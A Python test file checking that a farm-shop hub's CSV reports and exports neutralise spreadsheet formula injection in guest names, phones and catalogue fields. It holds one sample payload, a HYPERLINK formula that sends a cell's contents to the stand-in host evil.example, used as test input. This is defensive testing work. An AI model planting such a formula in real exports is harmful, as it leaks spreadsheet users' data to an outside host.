"""CSV formula injection (issue 17.5): a guest's name, phone or note reaches the hub's reports
and the producer's order export as text, never as a formula; our numbers keep their sign; the
catalogue export still re-imports unchanged."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from core.db import db
from products import csv_io
from products.csv_io import apply_import, check_import, run_to_end
from products.models import Product
from tests.factories import ProductFactory, VariantFactory
from tests.factories_producer_orders import customer, farm_shop, order_for
from tests.factories_products import producer_with_manager
from tests.factories_reports import make_report_cycle

GUEST = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'
PHONE = "+33 6 12 34 56 78"


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_a_guest_name_in_a_hub_report_is_text(client, login_as, db_session):
    world = make_report_cycle()
    world.orders["alice"].customer_name = GUEST
    db.session.flush()
    login_as(world.manager)
    for report in ("fees", "pickup", "packing", "payments"):
        response = client.get(f"/hubs/{world.hub.id}/cycles/{world.cycle_id}/reports/{report}.csv")
        assert response.status_code == 200, report
        cells = [cell for row in _rows(response.data) for cell in row]
        assert "'" + GUEST in cells, report
        assert GUEST not in cells, report
        assert not any(
            cell.startswith(("=", "+", "-", "@")) for cell in cells if not _is_number(cell)
        ), report


def _is_number(cell: str) -> bool:
    return cell.lstrip("-").replace(",", "").replace(".", "").isdigit()


def test_a_guest_name_and_phone_in_the_producer_export_are_text(client, login_as, db_session):
    fs = farm_shop()
    guest = customer(GUEST, "guest@example.org", phone=PHONE)
    order = order_for(fs.shop, guest, [(fs.shop.offers[0].id, 2)], phone=PHONE)
    order.customer_name = GUEST
    db.session.flush()
    login_as(fs.farm_manager)
    response = client.get(f"/producers/{fs.farm.id}/orders/export.csv")
    assert response.status_code == 200
    [_header, line] = _rows(response.data)
    assert line[5] == "'" + GUEST  # the customer
    assert line[9] == "2"  # the quantity
    assert not any(cell.startswith(("=", "+", "@")) for cell in line)


def test_the_catalogue_export_neutralises_formulas_and_still_re_imports(db_session):
    producer, manager = producer_with_manager()
    product = ProductFactory(producer=producer, name="=Tomates()", description="-bio, +local")
    VariantFactory(product=product, sku="@TOM-1", name="+1 kg", price_cents=450, stock=3)
    db.session.flush()

    exported = "".join(csv_io.export_csv(producer.id, "fr", ";")).encode()
    [header, row] = _rows(exported)
    assert row[header.index("product_name")] == "'=Tomates()"
    assert row[header.index("sku")] == "'@TOM-1"
    assert row[header.index("description")] == "'-bio, +local"
    assert row[header.index("price_eur")] == "4,50"

    preview = run_to_end(check_import(producer, manager.id, exported, "catalogue.csv"))
    assert preview.errors == []
    assert (preview.summary.new_variants, preview.summary.updated_variants) == (0, 1)
    run_to_end(apply_import(producer, manager.id, preview.token))
    db.session.expire_all()
    [again] = db.session.scalars(select(Product).where(Product.producer_id == producer.id))
    assert (again.name, again.description) == ("=Tomates()", "-bio, +local")
    assert [(v.sku, v.name) for v in again.variants] == [("@TOM-1", "+1 kg")]
